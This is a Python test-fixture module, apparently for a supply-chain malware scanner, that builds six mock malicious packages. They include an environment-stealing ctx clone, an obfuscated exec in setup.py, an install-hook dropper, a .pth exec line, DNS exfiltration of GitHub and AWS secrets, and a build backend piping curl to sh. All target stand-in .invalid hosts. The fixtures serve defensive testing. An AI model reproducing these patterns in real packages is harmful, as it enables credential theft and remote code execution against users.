"""Malicious packages with harmless payloads, written the way real ones were.

Every payload's only effect, were it ever run, is to create the test's marker file (and
to address hosts under ``.invalid``, which cannot resolve): the tests assert the marker is
never created, proving the scan parsed the code without running any of it.

* ``ctx``-like: the 2022 takeover's ``Ctx.__init__`` sent ``os.environ`` to a server;
* W4SP-like: setup.py with an ``exec`` of a zlib+base64 blob, the call padded off-screen;
* a dropper: an ``install`` command class that downloads, writes, chmods and runs a file;
* a ``.pth`` file whose import line decodes and executes a payload at every start;
* DNS exfiltration: secrets encoded into host names resolved one by one;
* an in-tree build backend that runs ``curl | sh``.
"""

from __future__ import annotations

import base64
import zlib
from pathlib import Path

from tests.supply.heuristics import packages


def touch(marker: Path) -> str:
    """The payload's one action: create the marker."""
    return f"open({str(marker)!r}, 'w').write('ran')"


def ctx_module(marker: Path) -> str:
    return f'''
    import base64
    from os import environ

    import requests


    class Ctx(dict):
        def __init__(self):
            self.sendRequest()

        def sendRequest(self):
            {touch(marker)}
            string = ""
            for _, value in environ.items():
                string += value + " "
            message = base64.b64encode(string.encode("ascii")).decode("ascii")
            requests.get("https://anti-theft-web.invalid/hacked/" + message)
    '''


def w4sp_setup(marker: Path) -> str:
    payload = (f"import os, json, urllib.request\n{touch(marker)}\n"
               "urllib.request.urlopen('https://discord.com/api/webhooks/0/invalid', "
               "data=json.dumps(dict(os.environ)).encode())\n")
    blob = base64.b64encode(zlib.compress(payload.encode())).decode()
    return (
        "from setuptools import setup\n"
        "import base64, zlib\n"
        "print('installing')" + " " * 300 + f";exec(zlib.decompress(base64.b64decode({blob!r})))\n"
        "setup(name='colorsama', version='0.4.6', packages=['colorsama'])\n"
    )


def dropper_setup(marker: Path) -> str:
    return f'''
    import os
    import subprocess
    import urllib.request

    from setuptools import setup
    from setuptools.command.install import install


    class PostInstall(install):
        def run(self):
            install.run(self)
            self.fetch_and_run()

        def fetch_and_run(self):
            {touch(marker)}
            data = urllib.request.urlopen("https://payload.invalid/stage2").read()
            path = os.path.join("/tmp", "stage2")
            with open(path, "wb") as handle:
                handle.write(data)
            os.chmod(path, 0o755)
            subprocess.Popen([path])


    setup(name="helpfulutils", version="1.0", cmdclass={{"install": PostInstall}})
    '''


def pth_line(marker: Path) -> str:
    code = base64.b64encode(f"{touch(marker)}\n".encode()).decode()
    return f"import base64; exec(base64.b64decode({code!r}))\n"


def dns_module(marker: Path) -> str:
    return f'''
    import os
    import socket


    def beacon():
        {touch(marker)}
        token = os.environ.get("GITHUB_TOKEN", "") + os.environ.get("AWS_SECRET_ACCESS_KEY", "")
        for i in range(0, len(token), 30):
            chunk = token[i:i + 30].encode().hex()
            socket.gethostbyname(f"{{chunk}}.{{i}}.exfil.invalid")


    beacon()
    '''


def backend_module(marker: Path) -> str:
    return f'''
    from setuptools import build_meta as _orig

    prepare_metadata_for_build_wheel = _orig.prepare_metadata_for_build_wheel
    build_sdist = _orig.build_sdist


    def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
        import os
        {touch(marker)}
        os.system("curl -s https://stage.invalid/x.sh | sh")
        return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
    '''


def build_corpus(folder: Path, marker: Path) -> dict[str, Path]:
    """Every malicious package, keyed by what it is."""
    folder.mkdir(parents=True, exist_ok=True)
    return {
        "ctx": packages.wheel(folder, "ctx", "0.2.6", {"ctx.py": ctx_module(marker)}),
        "w4sp": packages.sdist(folder, "colorsama", "0.4.6", {
            "setup.py": w4sp_setup(marker), "colorsama/__init__.py": ""}),
        "dropper": packages.sdist(folder, "helpfulutils", "1.0", {
            "setup.py": dropper_setup(marker), "helpfulutils/__init__.py": ""}),
        "pth": packages.wheel(folder, "speedups", "1.0", {
            "speedups/__init__.py": "", "speedups-init.pth": pth_line(marker)}),
        "dns": packages.wheel(folder, "fastjsonx", "1.0", {
            "fastjsonx/__init__.py": dns_module(marker)}),
        "backend": packages.sdist(folder, "quickbuild", "0.1", {
            "pyproject.toml": '[build-system]\nrequires = ["setuptools"]\nbuild-backend = '
                              '"backend"\nbackend-path = ["_build"]\n\n[project]\nname = '
                              '"quickbuild"\nversion = "0.1"\n',
            "_build/backend.py": backend_module(marker), "quickbuild/__init__.py": ""}),
    }
